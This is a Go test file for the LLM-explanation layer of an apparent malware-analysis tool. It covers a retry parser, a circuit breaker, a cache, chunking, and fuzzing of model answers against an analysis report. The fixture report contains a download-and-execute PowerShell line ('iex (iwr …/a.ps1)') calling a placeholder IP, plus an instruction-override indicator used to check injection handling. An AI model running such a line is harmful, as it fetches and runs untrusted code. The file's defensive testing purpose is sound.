package llm

import (
	"context"
	"math"
	"net/http"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/automaldesc/automaldesc/analysis"
	"github.com/automaldesc/automaldesc/analysis/explain"
	"github.com/automaldesc/automaldesc/analysis/indicators"
	"github.com/automaldesc/automaldesc/analysis/ioc"
	"github.com/automaldesc/automaldesc/analysis/lang"
	"github.com/automaldesc/automaldesc/analysis/verdict"
)

func TestParseRetryAfter(t *testing.T) {
	now := time.Date(2025, 3, 1, 12, 0, 0, 0, time.UTC)
	tests := []struct {
		name, v string
		want    time.Duration
	}{
		{"seconds", "3", 3 * time.Second},
		{"spaces", " 2 ", 2 * time.Second},
		{"http date", now.Add(90 * time.Second).Format(http.TimeFormat), 90 * time.Second},
		{"date in the past", now.Add(-time.Minute).Format(http.TimeFormat), 0},
		{"empty", "", 0},
		{"negative", "-5", 0},
		{"garbage", "soon", 0},
		{"absurd", "1e12", 0},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			if got := parseRetryAfter(tc.v, now); got != tc.want {
				t.Errorf("parseRetryAfter(%q): got %s, want %s", tc.v, got, tc.want)
			}
		})
	}
}

func TestBreakerStates(t *testing.T) {
	now := time.Unix(0, 0)
	b := newBreaker(2, time.Minute, func() time.Time { return now })
	steps := []struct {
		name  string
		do    func()
		allow bool
	}{
		{"closed", func() {}, true},
		{"one failure", func() { b.done(false) }, true},
		{"opens at two", func() { b.done(false) }, false},
		{"still open before the cool-down", func() { now = now.Add(59 * time.Second) }, false},
		{"half-open probe", func() { now = now.Add(2 * time.Second) }, true},
	}
	for _, s := range steps {
		s.do()
		if got := b.allow(); got != s.allow {
			t.Fatalf("%s: allow got %v, want %v", s.name, got, s.allow)
		}
		if s.allow {
			if s.name == "half-open probe" {
				break
			}
			b.release()
		}
	}
	if b.allow() {
		t.Fatalf("second attempt while the probe is out: got allowed, want refused")
	}
	b.done(false)
	if b.allow() {
		t.Fatalf("failed probe: got allowed, want open again")
	}
	now = now.Add(2 * time.Minute)
	if !b.allow() {
		t.Fatalf("after the second cool-down: got refused, want a probe")
	}
	b.done(true)
	if !b.allow() || b.open() {
		t.Fatalf("after a successful probe: want closed")
	}
}

func TestLRU(t *testing.T) {
	ctx := context.Background()
	c := NewLRU(2, 0)
	c.Put(ctx, "a", []byte("1"))
	c.Put(ctx, "b", []byte("2"))
	if _, ok := c.Get(ctx, "a"); !ok { // a is now the most recent
		t.Fatal("a: miss")
	}
	c.Put(ctx, "c", []byte("3"))
	if _, ok := c.Get(ctx, "b"); ok {
		t.Errorf("b: got a hit, want it evicted as least recently used")
	}
	if v, ok := c.Get(ctx, "a"); !ok || string(v) != "1" {
		t.Errorf("a: got %q %v, want 1", v, ok)
	}
	byBytes := NewLRU(100, 10)
	byBytes.Put(ctx, "k1", []byte("12345"))
	byBytes.Put(ctx, "k2", []byte("12345"))
	if byBytes.Len() != 1 {
		t.Errorf("byte bound: got %d entries, want 1", byBytes.Len())
	}
	byBytes.Put(ctx, "huge", make([]byte, 100))
	if _, ok := byBytes.Get(ctx, "huge"); ok {
		t.Errorf("a value over the byte bound was stored")
	}
	if CacheKey("s", "m1", "explain") == CacheKey("s", "m2", "explain") || !strings.Contains(CacheKey("s", "m", "x"), PromptVersion) {
		t.Errorf("cache key does not separate models or carry the prompt version")
	}
}

func TestLabelProb(t *testing.T) {
	tests := []struct {
		name string
		rep  reply
		want float64
	}{
		{"split label", reply{content: `{"label":"benign"}`, logprobs: []tokenProb{{`{"label":"`, -0.1}, {"ben", -0.3}, {"ign", -0.1}, {`"}`, 0}}}, math.Exp(-0.4)},
		{"no logprobs", reply{content: `{"label":"benign"}`}, -1},
		{"misaligned", reply{content: `{"label":"benign"}`, logprobs: []tokenProb{{"xyz", -1}}}, -1},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			if got := labelProb(tc.rep, "benign"); math.Abs(got-tc.want) > 1e-12 {
				t.Errorf("got %g, want %g", got, tc.want)
			}
		})
	}
}

func TestChunk(t *testing.T) {
	text := strings.Repeat("line of text ü\n", 1000) + strings.Repeat("é", 3000)
	parts := chunk(text, 1000)
	if strings.Join(parts, "") != text {
		t.Fatal("chunks do not join back to the text")
	}
	for i, p := range parts {
		if len(p) > 1000 || !utf8.ValidString(p) {
			t.Errorf("part %d: %d bytes, valid UTF-8 %v", i, len(p), utf8.ValidString(p))
		}
	}
	if idx := pick(parts, 5); len(idx) != 5 || idx[0] != 0 || idx[4] != len(parts)-1 {
		t.Errorf("pick: got %v, want 5 spread from 0 to %d", idx, len(parts)-1)
	}
}

// fuzzReport is a small report for the answer fuzzer.
func fuzzReport() *analysis.Report {
	return &analysis.Report{
		Sample:   analysis.SampleInfo{SHA256: strings.Repeat("a", 64)},
		Status:   analysis.StatusOK,
		Language: lang.Result{Language: lang.PowerShell, Confidence: 1},
		Layers:   []analysis.Layer{{Index: 0, Parent: -1, Method: "original"}, {Index: 1, Method: "base64", Text: "iex (iwr http://198.51.100.7/a.ps1)"}},
		Indicators: []indicators.Hit{{ID: "exec.ps_iex", Title: "Invoke-Expression", Severity: indicators.SeverityMedium, Techniques: []string{"T1059.001"}},
			{ID: "prompt.ignore_instructions", Title: "Instruction-override phrase", Severity: indicators.SeverityHigh, Techniques: []string{"T1562"}}},
		IOCs:       []ioc.IOC{{Type: ioc.URL, Value: "http://198.51.100.7/a.ps1"}, {Type: ioc.IPv4, Value: "198.51.100.7"}},
		Techniques: []analysis.Technique{{ID: "T1059.001", Evidence: []string{"exec.ps_iex"}}, {ID: "T1562", Evidence: []string{"prompt.ignore_instructions"}}},
		Verdict:    analysis.Verdict{Label: verdict.Malicious, Source: "model"},
	}
}

// FuzzAnswer feeds arbitrary answers through parsing and binding: no
// panic, and whatever binds passes explain.Validate, never names an IOC
// outside the report and never lowers the verdict.
func FuzzAnswer(f *testing.F) {
	f.Add(`{"language":"powershell","label":"benign","summary":"Runs http://198.51.100.7/a.ps1 and http://192.0.2.1/x (T1059.001, T1486).","behaviours":[{"text":"Runs code.","evidence":["exec.ps_iex"]}],"iocs":["192.0.2.1"],"techniques":["T1059.001"]}`)
	f.Add(`{"language":"bash","label":"malicious","summary":"x\u202eevil[.]example \u0000","behaviours":[{"text":"hxxp://203[.]0[.]113[.]5/a","evidence":["verdict","status","ioc:url:http://198.51.100.7/a.ps1"]}],"iocs":[],"techniques":["t1059","T12345"]}`)
	f.Add("```json\n{}\n```")
	f.Add(`not json`)
	e, err := New(Options{BaseURL: "http://127.0.0.1:1/v1", Model: "m"})
	if err != nil {
		f.Fatal(err)
	}
	r := fuzzReport()
	f.Fuzz(func(t *testing.T, s string) {
		a, err := parseAnswer(s)
		if err != nil {
			return
		}
		res, err := e.bind(r, a, "")
		if err != nil {
			return
		}
		if err := explain.Validate(r, res.Explanation); err != nil {
			t.Fatalf("bound explanation does not validate: %v", err)
		}
		if res.Verdict.Label != verdict.Malicious {
			t.Fatalf("verdict changed to %s", res.Verdict.Label)
		}
		if len(res.Injection) == 0 {
			t.Fatalf("the injection finding was not restated")
		}
	})
}

func BenchmarkPrompt(b *testing.B) {
	r := fuzzReport()
	script := strings.Repeat("$x = Get-Content C:\\data\\file.txt | Select-String 'token' # step\n", 80) // ~5 KB
	e, err := New(Options{BaseURL: "http://127.0.0.1:1/v1", Model: "m"})
	if err != nil {
		b.Fatal(err)
	}
	b.ReportAllocs()
	for b.Loop() {
		p := newPrompt(r, 0)
		bud := e.budgetFor(systemExplain, len(p.findings), e.opt.MaxTokens)
		p = newPrompt(r, bud.evidence)
		_ = p.user(neutralize(script), "")
	}
}

func BenchmarkBind(b *testing.B) {
	r := fuzzReport()
	e, err := New(Options{BaseURL: "http://127.0.0.1:1/v1", Model: "m"})
	if err != nil {
		b.Fatal(err)
	}
	a, err := parseAnswer(`{"language":"powershell","label":"malicious","summary":"Downloads http://198.51.100.7/a.ps1 and runs it (T1059.001).","behaviours":[{"text":"Runs code with IEX.","evidence":["exec.ps_iex"]}],"iocs":["http://198.51.100.7/a.ps1"],"techniques":["T1059.001"]}`)
	if err != nil {
		b.Fatal(err)
	}
	b.ReportAllocs()
	for b.Loop() {
		if _, err := e.bind(r, a, ""); err != nil {
			b.Fatal(err)
		}
	}
}
